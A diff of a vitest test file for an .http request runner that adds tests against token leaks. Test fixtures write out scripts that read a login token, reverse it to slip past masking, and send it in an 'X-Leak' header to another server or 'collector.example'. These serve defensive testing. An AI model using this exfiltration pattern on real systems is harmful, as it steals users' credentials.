@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createHttpClient } from '../../src/http/client.ts';
 import { parseHttpFile } from '../../src/httpfile/parse/parse.ts';
 import type { Dialect } from '../../src/httpfile/parse/tree.ts';
 import type { RunOptions } from '../../src/run/engine.ts';
@@ -88,10 +89,10 @@ function session(
     environment: new Map(Object.entries(environment)),
     options: { ...runOptions, ...options },
   };
-  const send = async (at = 0) => {
+  const send = async (at = 0, from = file.file) => {
     const node = tree.requests[at];
     if (node === undefined) throw new Error('no such request in the text');
-    return run.run(file, node);
+    return run.run({ ...file, file: from }, node);
   };
   return { send, logged, memory, redactor, run };
 }
@@ -454,6 +455,71 @@ describe('tokens and scripts', () => {
     expect(redactor.mask(made)).not.toContain(made);
   });
 
+  describe.each([
+    ['a header', 'request.headers.findByName("X-In").tryGetSubstitutedValue()', ''],
+    ['a variable of the file', 'client.variables.file.get("t")', ''],
+    ['a variable of the file with the name of a secret', 'client.variables.file.get("password")', ''],
+    ['a variable that an earlier script set', 'request.variables.get("v")', 'X-In'],
+  ])('a token of an answer that a script read from %s', (_what, read, set) => {
+    const made = Array.from(TOKEN).reverse().join('');
+    const text = (base: string, target: string) =>
+      [
+        '@t = {{login.response.body.$.access_token}}',
+        '@password = {{login.response.body.$.access_token}}',
+        '',
+        '# @name login',
+        `GET ${base}/login`,
+        '###',
+        ...(set === ''
+          ? []
+          : [
+              `< {% request.variables.set("v", request.headers.findByName("${set}").tryGetSubstitutedValue()) %}`,
+            ]),
+        `< {% client.global.set("h", ${read}.split("").reverse().join("")) %}`,
+        `GET ${base}/x`,
+        'X-In: {{login.response.body.$.access_token}}',
+        '###',
+        `GET ${target}/take`,
+        'X-Leak: {{h}}',
+      ].join('\n');
+
+    it('is asked about before another server gets it from another file', async () => {
+      const { base, received } = await server();
+      const other = await server();
+      const asked: string[] = [];
+      const { send } = session(text(base, other.base), {
+        setup: {
+          allowOrigin: ({ tokenName, origin }) => {
+            asked.push(`${tokenName} ${origin}`);
+            return Promise.resolve(asked.length === 1 ? 'refuse' : 'remember');
+          },
+        },
+      });
+      await send(0);
+      expect((await send(1)).result.error).toBeNull();
+      expect(received.map(({ url }) => url)).toEqual(['/login', '/x']);
+      const { result } = await send(2, '/w/b.http');
+      expect(result.error).toMatchObject({ code: 'origin_not_allowed' });
+      expect(other.received).toEqual([]);
+      await send(2, '/w/b.http');
+      expect(asked).toEqual([`login ${other.base}`, `login ${other.base}`]);
+      expect(other.received.map(({ headers }) => headers['x-leak'])).toEqual([made]);
+    });
+
+    it('is not sent over plain http', async () => {
+      const { base } = await server();
+      // It stands for every host but this computer.
+      const other = await server();
+      const proxy = { httpProxy: other.base, httpsProxy: null, noProxy: [] };
+      const client = createHttpClient({ proxy, caCertificates: [] });
+      const { send } = session(text(base, 'http://collector.example'), { setup: { client } });
+      await send(0);
+      await send(1);
+      expect((await send(2)).result.error).toMatchObject({ code: 'insecure_origin' });
+      expect(other.received).toEqual([]);
+    });
+  });
+
   it('lets no script that saw a secret say where the request goes', async () => {
     const { base, received } = await server();
     const { send } = session(
@@ -462,6 +528,71 @@ describe('tokens and scripts', () => {
     );
     expect((await send()).result.error).toMatchObject({ code: 'script_failed' });
     expect(received).toEqual([]);
+  });
+
+  it('lets no script that saw a secret choose the method', async () => {
+    const { base, received } = await server();
+    const { send } = session(
+      [
+        '# @name login',
+        `GET ${base}/login`,
+        '###',
+        "{{\n  request.method = 'M' + login.access_token;\n}}",
+        `GET ${base}/x`,
+      ].join('\n'),
+      { dialect: 'httpyac' },
+    );
+    await send(0);
+    const { result } = await send(1);
+    expect(result.error).toMatchObject({
+      code: 'script_failed',
+      message: 'The script on line 4 changed the method, which a script that was given a secret may not.',
+    });
+    expect(JSON.stringify(result)).not.toContain(TOKEN);
+    expect(received.map(({ url }) => url)).toEqual(['/login']);
+  });
+
+  it.each(['', 'GET /', 'PO\\nST', 'É', 'M'.repeat(41)])(
+    'sends nothing by the method "%s"',
+    async (method) => {
+      const { base, received } = await server();
+      const { send } = session(`{{\n  request.method = '${method}';\n}}\nGET ${base}/x`, {
+        dialect: 'httpyac',
+      });
+      expect((await send()).result.error).toMatchObject({
+        code: 'script_failed',
+        message: 'The script on line 1 changed the method to a text that is none.',
+      });
+      expect(received).toEqual([]);
+    },
+  );
+
+  it('lets a script that saw no secret choose any method', async () => {
+    const { base, received } = await server();
+    const { send } = session(`{{\n  request.method = 'REPORT';\n}}\nGET ${base}/x`, { dialect: 'httpyac' });
+    expect((await send()).result.request?.method).toBe('REPORT');
+    expect(received[0]?.method).toBe('REPORT');
+  });
+
+  it('masks a token that stands in the method', async () => {
+    const { base } = await server();
+    const { send } = session(
+      `# @name login\nGET ${base}/login\n###\n{{\n  request.method = '${TOKEN}';\n}}\nGET ${base}/x`,
+      { dialect: 'httpyac' },
+    );
+    await send(0);
+    expect((await send(1)).result.request?.method).toMatch(/^•••.+•••$/);
+  });
+
+  it('lets no server hide a known method by a token of that name', async () => {
+    const { url } = await httpServer((_request, response) => {
+      response.setHeader('content-type', 'application/json');
+      response.end('{"access_token": "UNSUBSCRIBE"}');
+    });
+    const { send, redactor } = session(`# @name login\nGET ${url}\n###\nUNSUBSCRIBE ${url}`);
+    await send(0);
+    expect(redactor.mask('UNSUBSCRIBE')).not.toBe('UNSUBSCRIBE');
+    expect((await send(1)).result.request?.method).toBe('UNSUBSCRIBE');
   });
 
   it('shows a script no token, and of the request that was sent only what anyone sees', async () => {
